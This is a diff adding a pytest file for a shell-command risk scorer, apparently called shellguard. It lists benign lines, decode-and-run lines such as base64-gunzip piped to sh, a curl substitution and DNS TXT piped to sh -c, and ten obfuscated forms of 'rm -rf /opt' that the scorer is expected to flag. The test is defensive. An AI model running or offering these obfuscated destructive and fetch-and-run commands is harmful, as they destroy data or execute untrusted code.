@@ -1,0 +1,69 @@
+"""Commands that a line hides: what can be computed is judged by what it says, the rest is asked about if it runs."""
+
+from __future__ import annotations
+
+import pytest
+
+from shellguard.effects.derive import effects_of
+from shellguard.parsing.reading import read
+from shellguard.risk.weigh import weigh
+
+ASKED = 51
+CRITICAL = 91
+
+RUNS = [
+    'eval "$(python3 -c \'print("".join([chr(c) for c in [108, 115]]))\')"',
+    "echo aGVsbG8= | base64 -d",
+    "python3 -c 'print(bytes.fromhex(\"6869\").decode())'",
+    'perl -e \'print pack("H*", "6869")\'',
+    "$(which python3 | tr -d '\\n') --version",
+    "$(brew --prefix)/bin/x -V",
+    'eval "$(ssh-agent -s)"',
+    "eval \"$(grep ^export settings | sed 's/a/b/')\"",
+    "find . -name '*.c' | xargs -I{} echo {}",
+    'for f in a b; do LIST+="$f "; done; echo $LIST',
+    "CFLAGS+=' -O2'; make CFLAGS=\"$CFLAGS\"",
+]
+
+ASKS = [
+    "$(printf '%s' x | base64 -d -w0 /t/blob) -a",
+    "eval \"$(python3 -c 'import sys; print(bytes.fromhex(sys.argv[1]).decode())' 6869)\"",
+    'eval "$(perl -ne \'print pack("H*",$_)\' <<< 6869)"',
+    "$(curl -s https://example.com/name) -x",
+    "host -t TXT example.com | xargs -I{} sh -c {}",
+    "bash -c \"$(sed -E 's/(.)(.)/\\2\\1/g' <<< 'm rr-')\"",
+    "echo H4sIAAAAAAAA | base64 -d | gunzip | sh",
+]
+
+REMOVES_A_FOLDER_OF_THE_SYSTEM = [
+    's=; for i in 72 6d; do s+="\\x$i"; done; $(printf "$s") -rf /opt',
+    'for c in 114 109; do s+=$(printf "\\\\$(printf %03o $c)"); done; $s -rf /opt',
+    "x='tpo/ fr- mr'; for ((i=${#x}-1;i>=0;i--)); do y+=${x:$i:1}; done; eval $y",
+    "a=(r m); ${a[0]}${a[1]} -rf /opt",
+    "$(awk 'BEGIN{printf \"%c%c\", 114, 109}') -rf /opt",
+    'eval "$(python3 -c \'print("tpo/ fr- mr"[::-1])\')"',
+    "$(ls /bin/rm) -rf /opt",
+    "$(find /bin -name 'r?' | head -1) -rf /opt",
+    "mapfile -t a < <(printf '%s\\n' rm -rf /opt); \"${a[@]}\"",
+    "declare -l x; x='RM -RF /OPT'; eval \"$x\"",
+]
+
+
+def score(line: str) -> int:
+    script = read(line)
+    return weigh(script, effects_of(script)).score
+
+
+@pytest.mark.parametrize("line", RUNS)
+def test_what_only_prints_or_is_plain_runs(line: str) -> None:
+    assert score(line) < ASKED
+
+
+@pytest.mark.parametrize("line", ASKS)
+def test_what_is_decoded_and_run_is_asked_about(line: str) -> None:
+    assert score(line) >= ASKED
+
+
+@pytest.mark.parametrize("line", REMOVES_A_FOLDER_OF_THE_SYSTEM)
+def test_what_can_be_computed_is_judged_by_what_it_says(line: str) -> None:
+    assert score(line) >= CRITICAL
